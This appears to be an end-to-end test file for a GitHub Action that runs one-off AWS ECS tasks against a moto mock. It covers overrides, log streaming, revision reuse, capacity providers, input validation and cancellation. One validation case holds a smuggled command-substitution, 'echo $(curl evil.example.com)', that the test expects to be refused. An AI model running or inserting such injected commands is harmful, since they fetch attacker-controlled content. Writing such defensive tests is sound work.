// run-task through its bundle against moto: the task runs like the service (network, launch type or
// capacity providers, platform version), the overrides arrive, the container's CloudWatch Logs appear in the
// step log in order and once, a cancel leaves the task to the post step, which stops it. moto's tasks advance
// one state every few DescribeTasks (set below), always exit 0 and cannot fail a start: those outcomes are
// unit-tested with typed fakes in actions/run-task/src/run.test.ts.
import { join } from 'node:path';
import {
  CloudWatchLogsClient,
  CreateLogGroupCommand,
  CreateLogStreamCommand,
  PutLogEventsCommand,
} from '@aws-sdk/client-cloudwatch-logs';
import {
  DescribeTasksCommand,
  ListTasksCommand,
  PutClusterCapacityProvidersCommand,
  RegisterTaskDefinitionCommand,
  type Task,
} from '@aws-sdk/client-ecs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { awsClientConfig } from '../harness/aws/clients.js';
import { templateService } from '../harness/aws/starting-points.js';
import { repoRoot, runAction, startAction } from '../harness/runner.js';
import { awsEnv, callTotals, REPOSITORY, usePreviewWorld } from './preview-env.js';

const RUN_TASK = join(repoRoot, 'actions', 'run-task');
const world = usePreviewWorld();
let logs: CloudWatchLogsClient;
let family: string;
const GROUP = '/ecs/run-task-e2e';

beforeAll(async () => {
  const w = world();
  logs = new CloudWatchLogsClient(awsClientConfig(w.moto.endpoint, w.sandbox.region));
  await logs.send(new CreateLogGroupCommand({ logGroupName: GROUP }));
  family = `${w.sandbox.name}-jobs`;
  await w.clients.ecs.send(
    new RegisterTaskDefinitionCommand({
      family,
      networkMode: 'awsvpc',
      requiresCompatibilities: ['FARGATE'],
      cpu: '256',
      memory: '512',
      containerDefinitions: [
        {
          name: 'web',
          image: 'public.ecr.aws/acme/shop:1',
          essential: true,
          memoryReservation: 256,
          logConfiguration: {
            logDriver: 'awslogs',
            options: {
              'awslogs-group': GROUP,
              'awslogs-region': w.sandbox.region,
              'awslogs-stream-prefix': 'jobs',
            },
          },
        },
      ],
    }),
  );
});
afterAll(() => logs?.destroy());

/** The tasks of the cluster, without DescribeTasks (which would advance them in moto). */
async function taskArns(): Promise<string[]> {
  const { taskArns = [] } = await world().clients.ecs.send(
    new ListTasksCommand({ cluster: world().sandbox.clusterName }),
  );
  return taskArns;
}

/** Waits for a task that was not there before, then writes `lines` into its log stream, in two batches. */
async function writeLogsOfNextTask(before: string[], lines: string[]): Promise<string> {
  for (let i = 0; i < 200; i++) {
    const arn = (await taskArns()).find((a) => !before.includes(a));
    if (arn) {
      const stream = `jobs/web/${arn.split('/').pop()}`;
      await logs.send(new CreateLogStreamCommand({ logGroupName: GROUP, logStreamName: stream }));
      const half = Math.ceil(lines.length / 2);
      const put = (batch: string[], offset: number) =>
        logs.send(
          new PutLogEventsCommand({
            logGroupName: GROUP,
            logStreamName: stream,
            logEvents: batch.map((message, j) => ({ message, timestamp: Date.now() + offset + j })),
          }),
        );
      await put(lines.slice(0, half), 0);
      await new Promise((r) => setTimeout(r, 250));
      await put(lines.slice(half), 100);
      return arn;
    }
    await new Promise((r) => setTimeout(r, 25));
  }
  throw new Error('no task appeared');
}

async function describe1(arn: string): Promise<Task> {
  const { tasks = [] } = await world().clients.ecs.send(
    new DescribeTasksCommand({ cluster: world().sandbox.clusterName, tasks: [arn], include: ['TAGS'] }),
  );
  return tasks[0]!;
}

const run = (inputs: Record<string, string>, extra = {}) =>
  runAction({ action: RUN_TASK, inputs, env: awsEnv(world()), repository: REPOSITORY, ...extra });

describe('run-task through its bundle (moto)', () => {
  it("runs like the service, with the overrides, prints the container's logs in order and once, exits 0", async () => {
    const w = world();
    // A task advances one state every 4 DescribeTasks: long enough for the test to write its logs.
    await w.moto.setTransition('ecs::task', { progression: 'manual', times: 4 });
    const before = await taskArns();
    const lines = ['seeding: start', 'seeding: users', 'seeding: orders', 'seeding: done'];
    const [result, arn] = await Promise.all([
      run({
        cluster: w.sandbox.clusterName,
        service: w.sandbox.serviceName,
        'task-definition': family,
        command: 'bin/seed --size "very small"',
        'environment-variables': 'SEED_SIZE=small\nDATABASE_NAME=pr_42',
        cpu: '512',
        memory: '1024',
        'poll-interval': '100ms',
      }),
      writeLogsOfNextTask(before, lines),
    ]);
    expect(result.errors).toEqual([]);
    expect(result.exitCode).toBe(0);
    expect(result.outputs, result.stdout + result.stderr).toMatchObject({
      'task-arn': arn,
      'exit-code': '0',
    });
    expect(result.outputs['log-url']).toContain(
      'log-group/$252Fecs$252Frun-task-e2e/log-events/jobs$252Fweb$252F',
    );
    // Each line once, in order, in the step log.
    const printed = result.stdout.split('\n').filter((l) => l.startsWith('seeding: '));
    expect(printed).toEqual(lines);
    expect(result.summary).toContain('`bin/seed --size very small`');
    expect(result.summary).toContain('| Exit code | 0 |');
    expect(result.summary).toContain('seeding: done');

    const task = await describe1(arn);
    expect(task.lastStatus).toBe('STOPPED');
    expect(task.launchType).toBe('FARGATE');
    expect(task.startedBy).toMatch(/^gha\/shop\/4242$/);
    expect(task.overrides?.containerOverrides).toEqual([
      {
        name: 'web',
        command: ['bin/seed', '--size', 'very small'],
        environment: [
          { name: 'SEED_SIZE', value: 'small' },
          { name: 'DATABASE_NAME', value: 'pr_42' },
        ],
      },
    ]);
    expect(task.overrides).toMatchObject({ cpu: '512', memory: '1024' });
    const subnet = task.attachments?.[0]?.details?.find((d) => d.name === 'subnetId')?.value;
    expect(w.sandbox.subnetIds).toContain(subnet);
    expect(Object.fromEntries((task.tags ?? []).map((t) => [t.key, t.value]))).toMatchObject({
      'ecs-actions:managed-by': 'ecs-actions',
      'ecs-actions:repository': REPOSITORY,
    });
    await w.moto.setTransition('ecs::task', { progression: 'immediate' });
  });

  it('a new image registers one revision; the same image again reuses it', async () => {
    const w = world();
    const inputs = {
      cluster: w.sandbox.clusterName,
      service: w.sandbox.serviceName,
      image: 'public.ecr.aws/acme/shop:2',
      command: '["bin/rails", "db:migrate"]',
      'poll-interval': '100ms',
      logs: 'false',
    };
    w.proxy.resetCounts();
    const first = await run(inputs);
    expect(first.errors).toEqual([]);
    expect(w.proxy.counts()['ecs:RegisterTaskDefinition']).toBe(1);
    const revision = first.outputs['task-definition-arn'];
    w.proxy.resetCounts();
    const second = await run(inputs);
    expect(second.errors).toEqual([]);
    expect(second.outputs['task-definition-arn']).toBe(revision);
    expect(w.proxy.counts()['ecs:RegisterTaskDefinition']).toBeUndefined();
    // Calls for one task with wait, without logs: ≤ 5 + 1 per poll.
    const polls = w.proxy.counts()['ecs:DescribeTasks'] ?? 0;
    expect(callTotals(w).total).toBeLessThanOrEqual(5 + polls);
    expect((await describe1(second.outputs['task-arn']!)).taskDefinitionArn).toBe(revision);
  });

  it('copies a capacity-provider strategy and platform version from the service', async () => {
    const w = world();
    await w.clients.ecs.send(
      new PutClusterCapacityProvidersCommand({
        cluster: w.sandbox.clusterName,
        capacityProviders: ['FARGATE', 'FARGATE_SPOT'],
        defaultCapacityProviderStrategy: [{ capacityProvider: 'FARGATE', weight: 1 }],
      }),
    );
    const spot = await templateService(w.proxy.endpoint, w.sandbox, {
      name: 'jobs-spot',
      capacityProviderStrategy: [{ capacityProvider: 'FARGATE_SPOT', weight: 1 }],
      platformVersion: '1.4.0',
    });
    const result = await run({
      cluster: w.sandbox.clusterName,
      service: spot.serviceName,
      command: 'true',
      'poll-interval': '100ms',
    });
    expect(result.errors).toEqual([]);
    const task = await describe1(result.outputs['task-arn']!);
    expect(task.capacityProviderName).toBe('FARGATE_SPOT');
    expect(task.platformVersion).toBe('1.4.0');
  });

  it.each([
    [
      'an unknown service',
      { service: 'no-such-service' },
      /^Input 'service': 'no-such-service' is not an active service/,
    ],
    [
      'a container the task definition lacks',
      { 'container-name': 'api' },
      /^Input 'container-name': the task definition .* has no container 'api'/,
    ],
    [
      'a command that needs a shell',
      { command: 'rake db:seed | tee out.log' },
      /^Input 'command': '\|' needs a shell/,
    ],
    [
      'an injection attempt',
      { command: 'echo $(curl evil.example.com)' },
      /^Input 'command': .* needs a shell/,
    ],
    ['an image with a space', { image: 'shop: v2' }, /^Input 'image': "shop: v2" is not an image reference/],
    ['a startedBy ECS refuses', { 'started-by': 'run #7' }, /^Input 'started-by'/],
  ])('refuses %s before starting anything, naming the input', async (_, extra, message) => {
    const w = world();
    w.proxy.resetCounts();
    const result = await run({ cluster: w.sandbox.clusterName, service: w.sandbox.serviceName, ...extra });
    expect(result.exitCode).toBe(1);
    expect(result.errors.join('\n')).toMatch(message);
    expect(callTotals(w).mutating).toEqual([]);
    expect(w.proxy.counts()['ecs:RunTask']).toBeUndefined();
  });

  it('cancel: SIGINT stops following; the post step stops the task and says so', async () => {
    const w = world();
    await w.moto.setTransition('ecs::task', { progression: 'manual', times: 1000 });
    const inputs = {
      cluster: w.sandbox.clusterName,
      service: w.sandbox.serviceName,
      command: 'sleep 600',
      'poll-interval': '100ms',
    };
    const started = startAction({ action: RUN_TASK, inputs, env: awsEnv(w), repository: REPOSITORY });
    for (let i = 0; i < 100 && !(w.proxy.counts()['ecs:DescribeTasks'] ?? 0); i++)
      await new Promise((r) => setTimeout(r, 50));
    w.proxy.resetCounts();
    started.cancel();
    const main = await started.result;
    expect(main.summary).toContain('One-off task cancelled');
    const arn = main.outputs['task-arn']!;
    expect(JSON.parse(main.state['in-flight']!)).toMatchObject({
      cluster: w.sandbox.clusterName,
      taskArn: arn,
    });
    const post = await runAction({
      action: RUN_TASK,
      inputs,
      env: awsEnv(w),
      repository: REPOSITORY,
      entry: 'post',
      state: main.state,
    });
    expect(post.exitCode).toBe(0);
    expect(post.stdout).toContain(`Stopped ${arn}: the workflow run was cancelled`);
    expect(post.summary).toContain('One-off task stopped');
    await w.moto.setTransition('ecs::task', { progression: 'immediate' });
    const task = await describe1(arn);
    expect(task.lastStatus).toBe('STOPPED');
    expect(task.stoppedReason).toBe('Stopped by run-task: the workflow run was cancelled');
  });
});
